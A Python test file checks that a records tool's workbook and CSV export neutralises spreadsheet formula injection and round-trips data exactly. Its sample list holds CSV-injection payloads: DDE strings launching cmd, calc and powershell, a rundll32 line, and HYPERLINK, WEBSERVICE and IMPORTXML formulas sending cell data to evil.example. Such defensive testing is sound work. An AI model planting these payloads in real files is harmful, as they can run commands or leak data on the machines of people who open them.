"""Formulas in every field, out into workbooks and CSV and back: everywhere they are texts."""

from __future__ import annotations

import csv
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from jiedui.load import load
from tests.cli.conftest import Run, run
from tests.hostile.programme import write
from tests.tables.incoming.sheets import columns

__all__ = ["run"]
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1;1)",
    "\t=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    ";=1+1",
    ",=1+1",
    '=HYPERLINK("https://evil.example/?"&A1;"x")',
    '=WEBSERVICE("https://evil.example/")',
    '=IMPORTXML("https://evil.example/";"//a")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\windows\\system32\\cmd.exe /c calc'!''",
    "=10+20+cmd|' /C powershell'!A0",
    "%0A=1+1",
    "{=1+1}",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
]
NAMES = "天地玄黄宇宙洪荒日月盈昃辰宿列张寒来暑往秋收冬藏闰余成岁律吕调阳云腾致雨"
TYPES = ("children", "mentors", "pairings", "activities")
RISKY = re.compile(r"[=+\-@＝＋－＠|\t\r]")


@pytest.fixture
def records(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(tmp_path)
    hostile = write(tmp_path, FORMULAS, harmless=False)
    assert len(hostile.used) > len(FORMULAS) - 3  # a tab at the start is refused
    return tmp_path / "records"


def test_no_cell_of_the_workbook_is_a_formula(records: Path, run: Run) -> None:
    assert run("export", "--out", "all.xlsx").status == 0
    cells = [cell for sheet in load_workbook("all.xlsx") for row in sheet.iter_rows() for cell in row]
    texts = [cell for cell in cells if isinstance(cell.value, str) and RISKY.match(cell.value)]
    assert len(texts) > 300
    assert {cell.data_type for cell in texts} == {"s"}
    assert not [cell for cell in cells if cell.hyperlink and cell.hyperlink.target]
    with zipfile.ZipFile("all.xlsx") as book:
        for name in book.namelist():
            inside = book.read(name).decode()
            assert not re.search(r"<f[ >]|ddeLink|externalLink|TargetMode=\"External\"", inside), name


def test_no_cell_of_a_csv_file_begins_like_one(records: Path, run: Run) -> None:
    assert run("export", "--format", "csv", "--out", "all").status == 0
    seen = 0
    for file in Path("all").glob("*.csv"):
        with file.open(encoding="utf-8-sig", newline="") as opened:
            for cell in (cell for row in csv.reader(opened) for cell in row):
                seen += cell.startswith("'")
                assert not RISKY.match(cell) or re.fullmatch(r"-?[0-9.]+", cell), cell
    assert seen > 300


@pytest.mark.parametrize("out", ["all.xlsx", "all"])
def test_what_went_out_comes_back_to_the_byte(out: str, records: Path, run: Run) -> None:
    form = "xlsx" if out.endswith(".xlsx") else "csv"
    assert run("export", "--format", form, "--out", out).status == 0
    was = {one: one.read_bytes() for one in records.rglob("*.yml")}
    for type_ in TYPES:
        files = [out] if form == "xlsx" else sorted(Path(out).glob("*.csv"))
        done = run("import", type_, *files, "--write", "--update")
        assert done.status == 0, done
    assert {one: one.read_bytes() for one in records.rglob("*.yml")} == was


def test_a_filled_template_says_what_was_typed(records: Path, run: Run) -> None:
    assert run("import", "mentors", "--template", "new.xlsx").status == 0
    book = load_workbook("new.xlsx")
    sheet = book.worksheets[0]
    head = columns(sheet)
    typed = [one.strip() for one in FORMULAS if one.strip() == one]
    for number, text in enumerate(typed, start=2):
        row = {"姓名*": f"方{NAMES[number]}", "身份": "教师", "加入日期": "2026-03-01", "单位": text}
        for heading, value in row.items():
            sheet.cell(number, head[heading], value).data_type = "s"
    book.save("filled.xlsx")
    before = set(load(records).records.mentors)
    done = run("import", "mentors", "filled.xlsx", "--write")
    assert done.status == 0, done
    new = [one for id_, one in load(records).records.mentors.items() if id_ not in before]
    assert sorted(one.data["organisation"] for one in new) == sorted(typed)


def test_the_control_a_careless_writer_makes_formulas(tmp_path: Path) -> None:
    book = Workbook()
    for text in FORMULAS:
        book.worksheets[0].append([text])
    book.save(tmp_path / "careless.xlsx")
    sheet = load_workbook(tmp_path / "careless.xlsx").worksheets[0]
    kinds = [row[0].data_type for row in sheet.iter_rows()]
    assert kinds.count("f") > 5
